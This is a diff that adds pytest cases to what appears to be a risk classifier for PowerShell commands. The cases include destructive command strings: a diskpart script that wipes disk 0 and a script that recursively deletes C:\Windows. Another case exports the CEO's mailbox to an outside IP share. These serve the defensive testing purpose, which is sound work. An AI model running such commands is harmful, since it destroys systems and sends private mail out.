@@ -480,3 +480,26 @@ def test_n18w_index_loops(command: str, want: int) -> None:
 )
 def test_n18w_firewall_rules_made_to_allow(command: str, shell: str, want: int) -> None:
     assert assess(command, shell).level == want
+
+
+@pytest.mark.parametrize(
+    "command,want",
+    [
+        (
+            "Set-Content -Path $env:TEMP\\dp.txt -Value 'select disk 0','clean';"
+            " diskpart /s $env:TEMP\\dp.txt",
+            B,
+        ),
+        (
+            "Set-Content -Path run.ps1 -Value 'Write-Host a', 'Remove-Item C:\\Windows -Recurse';"
+            " & .\\run.ps1",
+            B,
+        ),
+        ("Set-Content -Path notes.txt -Value 'a, b'", M),
+        ("New-MailboxExportRequest -Mailbox ceo -FilePath \\\\203.0.113.9\\s\\ceo.pst", C),
+        ("New-MailboxExportRequest -Mailbox ceo -FilePath \\\\10.0.0.5\\pst\\ceo.pst", M),
+        ("New-MailboxExportRequest -Mailbox a -FilePath \\\\nas\\pst\\a.pst", M),
+    ],
+)
+def test_n18w_written_lists_and_exports(command: str, want: int) -> None:
+    assert assess(command, "powershell").level == want
